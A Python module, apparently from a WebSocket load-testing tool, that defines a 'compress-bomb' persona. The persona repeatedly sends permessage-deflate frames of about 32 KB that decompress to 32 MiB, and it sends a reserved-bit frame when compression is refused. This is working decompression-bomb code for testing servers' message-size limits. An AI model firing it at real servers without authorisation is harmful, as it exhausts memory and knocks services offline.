"""A zip bomb in a frame."""

import zlib
from functools import cache
from typing import Final

from loadgen import wire
from loadgen.frames import BINARY, FIN, RSV1, frame
from loadgen.personas import persona
from loadgen.personas._flood import FrameFlooder

#: What a bomb grows to: 1,000 times what is sent, the most that DEFLATE can do.
BOMB_BYTES: Final = 32 * 1024 * 1024
_PIECE_BYTES: Final = 1024 * 1024

_EXTENSION: Final = "permessage-deflate"


@persona
class CompressBomb(FrameFlooder):
    """WebSocket that asks for compression and sends 32 KB that unpack to 32 MiB, again and again.

    A limit on a message's size that is applied to what came over the wire, or only when all is unpacked, is none. Where
    the extension is not accepted, it sends one compressed frame all the same: a reserved bit, which must be refused.
    """

    __slots__ = ()

    name = "compress-bomb"
    upgrade_fields = (f"Sec-WebSocket-Extensions: {_EXTENSION}",)

    def on_open(self, head: wire.Head) -> None:
        """See whether the server unpacks."""
        if _EXTENSION in head.fields.get("sec-websocket-extensions", ""):
            self.cohort.answers[f"{_EXTENSION} accepted"] += 1
            super().on_open(head)
        else:
            self.cohort.answers[f"{_EXTENSION} not accepted"] += 1
            self.send(frame(FIN | RSV1 | BINARY, b"\0"))

    def block(self) -> bytes:
        """Return a bomb."""
        return bomb()


@cache
def bomb() -> bytes:
    """A binary message of zeros, compressed as RFC 7692 has it.

    Each piece is flushed in full, so that it refers to nothing before it, and the same piece can be repeated.
    """
    packer = zlib.compressobj(level=9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(bytes(_PIECE_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = piece * (BOMB_BYTES // _PIECE_BYTES)
    return frame(FIN | RSV1 | BINARY, packed.removesuffix(b"\0\0\xff\xff"))
